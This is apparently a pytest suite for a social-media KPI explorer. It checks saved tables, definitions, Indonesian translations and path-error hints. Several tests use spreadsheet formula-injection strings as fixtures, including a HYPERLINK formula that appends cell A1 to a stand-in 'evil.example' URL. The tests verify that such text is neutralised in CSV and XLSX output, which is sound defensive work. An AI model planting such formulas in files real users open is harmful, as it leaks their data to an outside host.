"""What leaves the explorer: a saved KPI table says what each figure is and what its impressions count, in
the language in use; a file of the same name is not replaced without a word; and a path or pattern that
names nothing says what is there instead (the nearest name, what the folder holds)."""
import os
import warnings
from datetime import datetime

import pandas as pd
import pytest

from helpers import explore, metrics
from helpers.errors import WorkbookError
from helpers.i18n import translator, use_language
from helpers.importers import expand_paths
from tests.test_explore_display import posts_of


def said(error: pytest.ExceptionInfo, language: str) -> str:
    return error.value.args[0].in_language(translator(language))


@pytest.fixture()
def mixed_posts():
    """Facebook: a 2017 post whose export counts impressions (150, no reach, 1 share) and a 2025 post whose
    export counts views (450 views, 200 reached, 2 shares). Instagram: 80 views, 50 reached, 4 shares.
    YouTube: 1,000 thumbnail impressions, 100 video views, 10 likes."""
    return posts_of([
        {"platform": "facebook", "published_at": "2017-01-10 09:00", "impressions": 150,
         "impressions_kind": "impressions", "reactions": 3, "comments": 0, "shares": 1},
        {"platform": "facebook", "published_at": "2025-05-02 09:00", "reach": 200, "impressions": 450,
         "impressions_kind": "views", "reactions": 6, "comments": 1, "shares": 2},
        {"platform": "instagram", "published_at": "2025-05-03 09:00", "reach": 50, "impressions": 80,
         "impressions_kind": "views", "reactions": 5, "comments": 1, "shares": 4, "saves": 0},
        {"platform": "youtube", "published_at": "2025-05-04 09:00", "impressions": 1000,
         "impressions_kind": "thumbnail_impressions", "video_views": 100, "reactions": 10},
    ])


def saved(table, name, tmp_path, monkeypatch, language=None) -> pd.DataFrame:
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    path = explore.save_table(table, name, language=language)
    return pd.read_csv(path).set_index(["platform", "kpi"])


def test_kpis_say_what_the_impressions_behind_each_figure_count(mixed_posts):
    kpis = metrics.kpis(mixed_posts).set_index(["platform", "kpi"])
    # Facebook's impressions pool the 2017 impressions and the 2025 views: 150 + 450 = 600
    assert kpis.loc[("facebook", "impressions"), "value"] == 600
    assert kpis.loc[("facebook", "impressions"), "impressions_kind"] == "impressions_and_views"
    # its frequency covers the one post with reach, which counts views: 450 ÷ 200 = 2.25
    assert kpis.loc[("facebook", "frequency"), "value"] == 2.25
    assert kpis.loc[("facebook", "frequency"), "impressions_kind"] == "views"
    # its virality covers both: (1 + 2) ÷ 600 = 0.005, over impressions and views
    assert kpis.loc[("facebook", "virality_rate"), "value"] == pytest.approx(0.005)
    assert kpis.loc[("facebook", "virality_rate"), "impressions_kind"] == "impressions_and_views"
    assert kpis.loc[("facebook", "summed_reach"), "impressions_kind"] == "impressions_and_views"  # the channel's
    assert kpis.loc[("youtube", "frequency"), "impressions_kind"] == "thumbnail_impressions"  # covers none: the channel's
    assert kpis.loc[("instagram", "comments"), "impressions_kind"] == "views"
    assert list(metrics.kpis(mixed_posts).columns) == ["platform", "kpi", "kind", "value", "mean_of_post_rates",
                                                       "posts_covered", "posts", "impressions_kind"]


def test_a_saved_kpi_table_keeps_its_columns_and_says_what_each_figure_is(mixed_posts, tmp_path, monkeypatch):
    kpis = metrics.kpis(mixed_posts)
    table = saved(kpis, "kpis.csv", tmp_path, monkeypatch)
    assert list(table.reset_index().columns) == [*kpis.columns, "definition", "impressions_counted"]
    assert table.loc[("facebook", "impressions"), "value"] == 600  # the numbers as they were
    assert table.loc[("facebook", "impressions"), "definition"] == (
        "impressions or views: Σ impressions or views over the posts that report it")
    assert table.loc[("facebook", "impressions"), "impressions_counted"] == "impressions and views"
    assert table.loc[("facebook", "frequency"), "definition"] == (
        "frequency: Σ views ÷ Σ reach over the posts that report both (value: this ratio of sums; "
        "mean_of_post_rates: the mean of each post's views ÷ reach)")
    assert table.loc[("facebook", "frequency"), "impressions_counted"] == "views"
    assert table.loc[("instagram", "virality_rate"), "value"] == pytest.approx(0.05)  # 4 ÷ 80
    assert table.loc[("instagram", "virality_rate"), "definition"] == (
        "virality rate by impressions (views): Σ shares ÷ Σ views over the posts that report both (value: this ratio of "
        "sums; mean_of_post_rates: the mean of each post's shares ÷ views); a fraction: 0.05 is 5%")
    assert table.loc[("youtube", "impressions"), "impressions_counted"] == "thumbnail impressions"
    # a figure not built on impressions has no word for them: a blank cell, not what the channel's count
    for kpi in ("posts", "summed_reach", "comments"):
        assert pd.isna(table.loc[("facebook", kpi), "impressions_counted"])
    assert table.loc[("youtube", "impressions"), "definition"] == (
        "thumbnail impressions: Σ thumbnail impressions over the posts that report it (thumbnail impressions: "
        "times a thumbnail was shown, not views of the video)")
    assert table.loc[("instagram", "conversation_rate"), "definition"] == (
        "conversation rate (comments per post): Σ comments ÷ the number of posts that report comments")
    assert table.loc[("instagram", "interactions"), "definition"] == (
        "interactions: Σ interactions over the posts that report it; interactions = reactions + comments + shares"
        " + saves (those the platform reports)")
    assert table.loc[("facebook", "cpm"), "definition"] == (
        "CPM: Σ spend on paid posts ÷ Σ impressions or views × 1,000 over the posts that report both (value: this"
        " ratio of sums; mean_of_post_rates: the mean of each post's spend on paid posts ÷ impressions or views × 1,000)")


def test_a_saved_kpi_table_is_in_the_language_in_use(mixed_posts, tmp_path, monkeypatch):
    try:
        use_language("id")
        table = saved(metrics.kpis(mixed_posts), "kpi.csv", tmp_path, monkeypatch)
    finally:
        use_language("en")
    assert table.loc[("instagram", "frequency"), "definition"] == (
        "frekuensi: Σ tayangan ÷ Σ jangkauan atas unggahan yang melaporkan keduanya (value: jumlah dibagi jumlah "
        "ini; mean_of_post_rates: rata-rata tayangan ÷ jangkauan tiap unggahan)")
    assert table.loc[("instagram", "frequency"), "impressions_counted"] == "tayangan"
    english = saved(metrics.kpis(mixed_posts), "kpi-en.csv", tmp_path, monkeypatch, language="en")
    assert english.loc[("instagram", "frequency"), "impressions_counted"] == "views"


def test_a_period_change_saved_says_what_each_period_counted(mixed_posts, tmp_path, monkeypatch):
    now = mixed_posts[mixed_posts["published_at"].dt.year == 2025]
    before = mixed_posts[mixed_posts["published_at"].dt.year == 2017]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        change = metrics.period_change(now, before)
    table = saved(change, "change.csv", tmp_path, monkeypatch)
    row = table.loc[("facebook", "impressions")]
    assert (row["impressions_counted"], row["impressions_counted_previous"]) == ("views", "impressions")
    assert bool(row["series_break"]) is True  # 450 views against 150 impressions: no change computed
    assert pd.isna(row["change"])



def test_a_table_shown_on_screen_is_saved_as_its_numbers(tmp_path, monkeypatch):
    """What shown, summary_view and the like put on screen (a pandas Styler) is saved as its numbers, as the
    DataFrame of them would be: the Facebook photo (14 reached, 5 reactions) and video (1,200 reached, 2
    reactions and 1 comment) have Σ reach 1,214 and an engagement rate by reach of 8 ÷ 1,214, saved as that
    fraction, not as '0.66%'. A Series is saved as its one column."""
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    posts = posts_of([
        {"platform": "facebook", "format": "photo", "published_at": "2025-05-02 09:00", "reach": 14,
         "reactions": 5, "comments": 0},
        {"platform": "facebook", "format": "video", "published_at": "2025-05-20 10:00", "reach": 1200,
         "reactions": 2, "comments": 1},
    ])
    kpis = metrics.kpis(posts)
    shown = explore.save_table(explore.shown(kpis), "shown.csv")
    assert shown.read_bytes() == explore.save_table(kpis, "kpis.csv").read_bytes()
    table = pd.read_csv(shown).set_index("kpi")
    assert table.loc["summed_reach", "value"] == 1214
    assert table.loc["engagement_rate_by_reach", "value"] == pytest.approx(8 / 1214)
    summary = pd.read_csv(explore.save_table(explore.summary_view(posts), "summary.csv"))
    # channel_summary's rows, in order: posts, the days from the first to the last post (2 to 20 May), summed reach
    assert [float(value) for value in summary["Facebook"].tolist()[:3]] == [2, 19, 1214]  # a column of text too
    assert pd.read_csv(explore.save_table(posts["reach"], "reach.csv"))["reach"].tolist() == [14, 1200]



def test_a_saved_table_keeps_the_labels_of_its_rows_not_their_numbers(tmp_path, monkeypatch):
    """summary_view's rows are its labels, channel_summary's its platforms, value_counts' the values counted:
    saved with them (a column of numbers alone says nothing). A table of posts or of KPIs numbers its rows:
    saved without those numbers, as before. The photo (14 reached) and the video (1,200) of Facebook."""
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    posts = posts_of([
        {"platform": "facebook", "format": "photo", "published_at": "2025-05-02 09:00", "reach": 14, "reactions": 5},
        {"platform": "facebook", "format": "video", "published_at": "2025-05-20 10:00", "reach": 1200, "reactions": 2},
    ])
    summary = pd.read_csv(explore.save_table(explore.summary_view(posts), "summary.csv"), index_col=0)["Facebook"]
    assert float(summary["posts"]) == 2 and float(summary["summed reach (not unique people)"]) == 1214
    channels = pd.read_csv(explore.save_table(metrics.channel_summary(posts), "channels.csv"))
    assert channels["platform"].tolist() == ["facebook"] and channels["posts"].tolist() == [2]
    counted = pd.read_csv(explore.save_table(posts["format"].value_counts(), "formats.csv"))
    assert counted.set_index("format")["count"].to_dict() == {"photo": 1, "video": 1}
    video = pd.read_csv(explore.save_table(posts.iloc[1:][["platform", "reach"]], "video.csv"))
    assert video.columns.tolist() == ["platform", "reach"] and video["reach"].tolist() == [1200]
    assert list(pd.read_csv(explore.save_table(metrics.kpis(posts), "kpis.csv")).columns[:2]) == ["platform", "kpi"]

def test_a_saved_summary_says_what_the_screen_says_under_a_named_column_of_labels(tmp_path, monkeypatch):
    """Facebook's photo (14 reached, 20 views) and video (1,200 reached, 3,000 views): the screen's frequency
    row reads "frequency (Σ views ÷ Σ reach)", 3,020 ÷ 1,214 = 2.49, under "Facebook"; the file saved, CSV or
    Excel, holds those labels, not channel_summary's "Σ impressions" and "facebook", in a column headed
    "metric" (read back as such, not "Unnamed: 0"); in Indonesian, the Indonesian labels shown."""
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    posts = posts_of([
        {"platform": "facebook", "format": "photo", "published_at": "2025-05-02 09:00", "reach": 14,
         "impressions": 20, "impressions_kind": "views", "reactions": 5, "comments": 0},
        {"platform": "facebook", "format": "video", "published_at": "2025-05-20 10:00", "reach": 1200,
         "impressions": 3000, "impressions_kind": "views", "reactions": 2, "comments": 1},
    ])
    view = explore.summary_view(posts)
    assert ">frequency (Σ views ÷ Σ reach)<" in view.to_html()
    for name in ("summary.csv", "summary.xlsx"):
        path = explore.save_table(view, name)
        table = pd.read_csv(path) if name.endswith(".csv") else pd.read_excel(path)
        assert table.columns.tolist() == ["metric", "Facebook"]
        figures = table.set_index("metric")["Facebook"]
        assert float(figures["frequency (Σ views ÷ Σ reach)"]) == pytest.approx(3020 / 1214)
        assert float(figures["posts"]) == 2 and "frequency (Σ impressions ÷ Σ reach)" not in figures.index
    assert view.data.loc["frequency (Σ impressions ÷ Σ reach)", "facebook"] == pytest.approx(3020 / 1214)
    indonesian = pd.read_csv(explore.save_table(explore.summary_view(posts, language="id"), "ringkasan.csv"))
    assert indonesian.columns.tolist() == ["metrik", "Facebook"]
    assert float(indonesian.set_index("metrik").loc["frekuensi (Σ tayangan ÷ Σ jangkauan)", "Facebook"]) == \
        pytest.approx(3020 / 1214)
    formats = pd.read_csv(explore.save_table(explore.summary_view(posts, by="format"), "formats.csv"), header=[0, 1],
                          index_col=0)
    assert formats.columns.tolist() == [("Facebook", "photo"), ("Facebook", "video")]


def test_saving_what_is_no_table_says_what_is_taken(tmp_path, monkeypatch):
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    with pytest.raises(WorkbookError) as error:
        explore.save_table({"reach": [14, 1200]}, "reach.csv")
    assert said(error, "en") == (
        "save_table saves a table: a DataFrame, a Series, or a table as shown on screen (a pandas Styler, such as "
        "summary_view's or shown's, whose numbers are saved), not an object of type dict")
    assert said(error, "id") == (
        "save_table menyimpan tabel: DataFrame, Series, atau tabel seperti yang ditampilkan di layar (Styler "
        "pandas, seperti hasil summary_view atau shown, yang disimpan angka-angkanya), bukan objek bertipe dict")
    assert not (tmp_path / "reach.csv").exists()

def test_another_table_under_a_name_already_used_replaces_it_with_a_warning(mixed_posts, tmp_path, monkeypatch):
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    kpis = metrics.kpis(mixed_posts)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        path = explore.save_table(kpis, "kpis.csv")
        explore.save_table(kpis, "kpis.csv")  # the recipe run again: the same table, nothing lost
    assert not [w for w in caught if issubclass(w.category, explore.TableReplaced)]
    written = datetime(2024, 3, 5, 10, 15).timestamp()  # 10:15 on this machine's clock
    os.utime(path, (written, written))
    with pytest.warns(explore.TableReplaced, match=f"^{path} was there already \\(written 2024-03-05 10:15\\)"):
        explore.save_table(kpis.head(2), "kpis.csv")
    assert len(pd.read_csv(path)) == 2  # replaced, as the warning says
    explore.save_table(kpis, "kpis.xlsx")
    with pytest.warns(explore.TableReplaced, match="has been replaced by this table: save under another name"):
        explore.save_table(kpis, "kpis.xlsx")


def test_no_text_becomes_a_formula_in_a_saved_xlsx(tmp_path, monkeypatch):
    """openpyxl takes a text beginning with '=' for a formula: a caption `=HYPERLINK(...)` was a live link,
    `== PROMO ==` a broken formula that lost the caption. Every text is a text cell, as written."""
    from openpyxl import load_workbook

    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    link = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    table = pd.DataFrame({"text": [link, "== PROMO ==", "+62 812 3456", "plain"], "reach": [-5, 10, 0, 3]})
    sheet = load_workbook(explore.save_table(table, "t.xlsx")).active
    assert [(cell.value, cell.data_type) for cell in sheet["A"]] == [
        ("text", "s"), (link, "s"), ("== PROMO ==", "s"), ("+62 812 3456", "s"), ("plain", "s")]
    assert [cell.value for cell in sheet["B"]] == ["reach", -5, 10, 0, 3]
    assert sheet["A2"].quotePrefix and not sheet["A5"].quotePrefix  # kept as text when edited in Excel


def test_a_saved_csv_opens_in_excel_as_text_with_formulas_neutralised_and_says_so(tmp_path, monkeypatch):
    """A CSV is UTF-8 with a byte-order mark (Excel then reads 'é' as written); a text cell beginning with
    = + - or @ gets a ' in front, numbers ("-5" as text or as a number) and a lone "-" are kept, and a
    warning says how many cells of which columns: 1 in 'account' ('@kopi'), 2 in 'text' (the link, '+62…')."""
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    table = pd.DataFrame({"account": ["Café Senja", "@kopi", "-"],
                          "text": ['=HYPERLINK("http://x/","click")', "+62 812 3456", "-5"],
                          "reach": [-5, 10, 0]})
    with pytest.warns(explore.FormulasAsText) as caught:
        path = explore.save_table(table, "t.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and "Café".encode("utf-8") in data
    assert data.decode("utf-8-sig").splitlines() == [
        "account,text,reach", "Café Senja,\"'=HYPERLINK(\"\"http://x/\"\",\"\"click\"\")\",-5",
        "'@kopi,'+62 812 3456,10", "-,-5,0"]
    message = caught[0].message.args[0]
    assert str(message).startswith(f"3 cells in 'account' and 'text' hold text beginning with =, +, - or @, "
                                   f"which a spreadsheet opening {path} would run as a formula")
    assert message.in_language(translator("id")).startswith(
        "3 sel di 'account' dan 'text' berisi teks yang diawali =, +, - atau @")
    with warnings.catch_warnings(record=True) as again:
        warnings.simplefilter("always")
        explore.save_table(table.tail(1), "u.csv")  # nothing to neutralise: no word
    assert not again


EVIL = '=HYPERLINK("http://evil","Kopi")'
QUOTED = '"\'=HYPERLINK(""http://evil"",""Kopi"")"'  # as the CSV writes it: a ' in front, the quotes doubled


def test_row_labels_headings_and_text_of_any_dtype_get_a_quote_in_a_saved_csv(tmp_path, monkeypatch):
    """An account named `=HYPERLINK(...)` is a row label of a groupby table, a heading of a pivot, a level of a
    MultiIndex, or a categorical cell: each gets a ' in front, and the warning counts it where it is."""
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    posts = pd.DataFrame({"account": [EVIL, "Senja", EVIL], "platform": ["facebook", "instagram", "instagram"],
                          "reach": [1, 2, 3]})
    saved = {}
    for name, table in {
            "by_account": posts.groupby("account")["reach"].sum().to_frame(),  # EVIL 1 + 3 = 4, Senja 2
            "pivot": posts.pivot_table(index="platform", columns="account", values="reach", aggfunc="sum"),
            "both": posts.groupby(["platform", "account"])["reach"].sum().to_frame(),
            "categorical": posts.astype({"account": "category"}),
            "unnamed": pd.DataFrame({EVIL: [1]}, index=pd.Index(["@cmd"]))}.items():
        with pytest.warns(explore.FormulasAsText) as caught:
            path = explore.save_table(table, f"{name}.csv")
        saved[name] = (path.read_text(encoding="utf-8-sig").splitlines(), caught[0].message.args[0])
    assert saved["by_account"][0] == ["account,reach", f"{QUOTED},4", "Senja,2"]
    assert saved["pivot"][0] == [f"platform,{QUOTED},Senja", "facebook,1.0,", "instagram,3.0,2.0"]
    assert saved["both"][0] == ["platform,account,reach", f"facebook,{QUOTED},1", f"instagram,{QUOTED},3",
                                "instagram,Senja,2"]
    assert saved["categorical"][0] == ["account,platform,reach", f"{QUOTED},facebook,1", "Senja,instagram,2",
                                       f"{QUOTED},instagram,3"]
    assert saved["unnamed"][0] == [f",{QUOTED}", "'@cmd,1"]
    assert str(saved["by_account"][1]).startswith("1 cell in 'account' holds text beginning with =, +, - or @")
    assert str(saved["pivot"][1]).startswith("1 cell in 'account' holds")
    assert str(saved["both"][1]).startswith("2 cells in 'account' hold")
    assert str(saved["categorical"][1]).startswith("2 cells in 'account' hold")
    message = saved["unnamed"][1]
    assert str(message).startswith("2 cells in the column headings and the row labels hold text beginning with")
    assert message.in_language(translator("id")).startswith("2 sel di judul kolom dan label baris berisi teks")


def test_row_labels_and_headings_are_text_cells_in_a_saved_xlsx(tmp_path, monkeypatch):
    """The .xlsx keeps them as typed, as text cells marked as Excel marks a text typed after a '."""
    from openpyxl import load_workbook

    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    table = pd.DataFrame({EVIL: [1, 2]}, index=pd.Index([EVIL, "Senja"], name="account"))
    sheet = load_workbook(explore.save_table(table, "t.xlsx")).active
    assert [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()] == [
        [("account", "s"), (EVIL, "s")], [(EVIL, "s"), (1, "n")], [("Senja", "s"), (2, "n")]]
    assert sheet["B1"].quotePrefix and sheet["A2"].quotePrefix and not sheet["A3"].quotePrefix


def test_numbers_written_in_other_forms_get_no_quote_in_a_saved_csv(tmp_path, monkeypatch):
    """A change as the report words it (-12%, +3.4 pp, Indonesian -1,5 poin persentase) or with separators
    (-2,000, +1.234,5) is a number, which calls nothing: no ' in front, and no warning where nothing else is.
    A phone number (spaces) or a number followed by more than a unit is text, and gets one."""
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    numbers = ["-12%", "+3.4 pp", "-1,5", "-2,000", "+1.234,5", "-1,5 poin persentase", "+7pp"]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        path = explore.save_table(pd.DataFrame({"change": numbers}), "numbers.csv")
    assert path.read_text(encoding="utf-8-sig").splitlines() == [
        "change", "-12%", "+3.4 pp", '"-1,5"', '"-2,000"', '"+1.234,5"', '"-1,5 poin persentase"', "+7pp"]
    with pytest.warns(explore.FormulasAsText) as caught:
        path = explore.save_table(pd.DataFrame({"change": ["+62 812 3456", "-12% off", "-2,000+A1", "-5%"]}),
                                  "text.csv")
    assert path.read_text(encoding="utf-8-sig").splitlines() == [
        "change", "'+62 812 3456", "'-12% off", '"\'-2,000+A1"', "-5%"]
    assert str(caught[0].message.args[0]).startswith("3 cells in 'change' hold")
    # a tab or a carriage return before a formula: the spreadsheet drops the one, breaks the row at the other
    with pytest.warns(explore.FormulasAsText):
        path = explore.save_table(pd.DataFrame({"caption": ["\t=1+2", "\r=1+2"]}), "lead.csv")
    assert path.read_bytes().decode("utf-8-sig") == "caption\r\n'\t=1+2\r\n\"'\r=1+2\"\r\n"


@pytest.fixture()
def exports(tmp_path):
    """facebook/business-suite-posts/ with one CSV; instagram/ with a folder of one CSV and a hidden file;
    youtube/ with two channels' folders; other/ with one folder and six CSV files."""
    for name in ("facebook/business-suite-posts/posts.csv", "instagram/business-suite-posts/posts.csv",
                 "instagram/.DS_Store", "youtube/chan-a/Table data.csv", "youtube/chan-a/Totals.csv",
                 "youtube/chan-b/Table data.csv", *(f"other/{c}.csv" for c in "abcdef"), "other/old/g.csv"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("x\n")
    return tmp_path


def test_a_mistyped_folder_is_answered_with_the_name_meant(exports):
    with pytest.raises(WorkbookError) as error:
        explore.load_folder(exports / "facebook" / "busines-suite-posts")
    assert said(error, "en").endswith(
        f"data/raw/my-page/*.csv. {exports / 'facebook'} holds no 'busines-suite-posts': did you mean "
        "'business-suite-posts'?")
    assert said(error, "id").endswith(
        f"data/raw/my-page/*.csv. Di {exports / 'facebook'} tidak ada 'busines-suite-posts': maksud Anda "
        "'business-suite-posts'?")
    with pytest.raises(WorkbookError) as error:  # in a pattern, the same
        expand_paths(str(exports / "facebook" / "Busines-suite-posts" / "*.csv"))
    assert str(error.value) == (
        f"no file matches '{exports}/facebook/Busines-suite-posts/*.csv' (looked in "
        f"{exports}/facebook/Busines-suite-posts). {exports}/facebook holds no 'Busines-suite-posts': did you mean "
        "'business-suite-posts'?")
    with pytest.raises(WorkbookError) as error:  # nothing near: what is there
        expand_paths(str(exports / "tiktok" / "*.csv"))
    assert str(error.value).endswith(
        f". {exports} holds no 'tiktok'; it holds 4 folders (facebook/, instagram/, other/, youtube/)")


def test_a_pattern_matching_nothing_says_what_its_folder_holds(exports):
    with pytest.raises(WorkbookError) as error:
        expand_paths(str(exports / "instagram" / "*.xlsx"))
    assert str(error.value) == (f"no file matches '{exports}/instagram/*.xlsx' (looked in {exports}/instagram). "
                                f"{exports}/instagram holds 1 folder (business-suite-posts/)")  # .DS_Store aside
    assert said(error, "id") == (f"tidak ada berkas yang cocok dengan '{exports}/instagram/*.xlsx' (dicari di "
                                 f"{exports}/instagram). Isi {exports}/instagram: 1 folder (business-suite-posts/)")
    with pytest.raises(WorkbookError) as error:  # 1 folder and 6 files: the folder and 4 files named
        expand_paths(str(exports / "other" / "*.xlsx"))
    assert str(error.value).endswith(f"{exports}/other holds 1 folder and 6 files (old/, a.csv, b.csv, c.csv, d.csv …)")
    with pytest.raises(WorkbookError) as error:  # ending in a name: the nearest file name its folders hold
        expand_paths(str(exports / "youtube" / "*" / "Tabel data.csv"))
    assert str(error.value).endswith(
        f"(looked in {exports}/youtube). No file there is named 'Tabel data.csv'; the nearest name is "
        f"'Table data.csv'. {exports}/youtube holds 2 folders (chan-a/, chan-b/)")


def test_a_mistyped_file_name_is_answered_with_the_name_meant(exports):
    with pytest.raises(WorkbookError) as error:
        expand_paths(str(exports / "youtube" / "chan-a" / "Table-data.csv"))
    assert str(error.value) == (f"export file not found: {exports}/youtube/chan-a/Table-data.csv. "
                                f"{exports}/youtube/chan-a holds no 'Table-data.csv': did you mean 'Table data.csv'?")
    assert said(error, "id") == (f"berkas ekspor tidak ditemukan: {exports}/youtube/chan-a/Table-data.csv. Di "
                                 f"{exports}/youtube/chan-a tidak ada 'Table-data.csv': maksud Anda 'Table data.csv'?")


def test_the_explorer_run_on_a_folder_saves_its_table_under_the_folders_client(tmp_path, monkeypatch):
    """papermill given only `folder` (the README's steps): the notebook's table is the folder's client's
    (`client = ""`: the folder's name), not saved over the demo client's kopi-senja-kpis.csv."""
    import papermill

    from helpers.paths import NOTEBOOKS_DIR, PROJECT_ROOT

    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path / "derived"))
    papermill.execute_notebook(str(NOTEBOOKS_DIR / "explore.ipynb"), str(tmp_path / "out.ipynb"),
                               parameters={"folder": "data/demo/harbour-books", "timezone": "Europe/London"},
                               cwd=str(PROJECT_ROOT), kernel_name="python3", progress_bar=False)
    assert sorted(p.name for p in (tmp_path / "derived").iterdir()) == ["harbour-books-kpis.csv"]


def test_a_table_by_month_is_saved_with_its_months_as_text_in_both_formats(tmp_path, monkeypatch):
    """Reach per month, indexed by time-zone-aware months: Excel takes no time zone, so the months are written
    as the columns' times are (local wall clock with its offset), in the CSV as in the workbook file."""
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    months = pd.date_range("2026-07-01", periods=2, freq="MS", tz="Asia/Jakarta", name="month")
    monthly = pd.DataFrame({"reach": [120, 80]}, index=months)
    written = pd.read_csv(explore.save_table(monthly, "monthly.csv"))
    assert written["month"].tolist() == ["2026-07-01 00:00 +0700", "2026-08-01 00:00 +0700"]
    assert written["reach"].tolist() == [120, 80]
    book = pd.read_excel(explore.save_table(monthly, "monthly.xlsx"))
    assert book["month"].tolist() == ["2026-07-01 00:00 +0700", "2026-08-01 00:00 +0700"]


def test_rows_and_columns_hidden_on_screen_are_left_out_of_the_saved_table(tmp_path, monkeypatch):
    """A Styler saved as shown: its hidden row (the photo) and hidden column (reactions) are not in the file."""
    monkeypatch.setenv(explore.DERIVED_DIR_VARIABLE, str(tmp_path))
    table = pd.DataFrame({"format": ["photo", "video"], "reach": [14, 1200], "reactions": [5, 2]})
    shown = table.style.hide(axis=0, subset=[0]).hide(axis=1, subset=["reactions"])
    written = pd.read_csv(explore.save_table(shown, "shown.csv"))
    assert written.to_dict("list") == {"format": ["video"], "reach": [1200]}
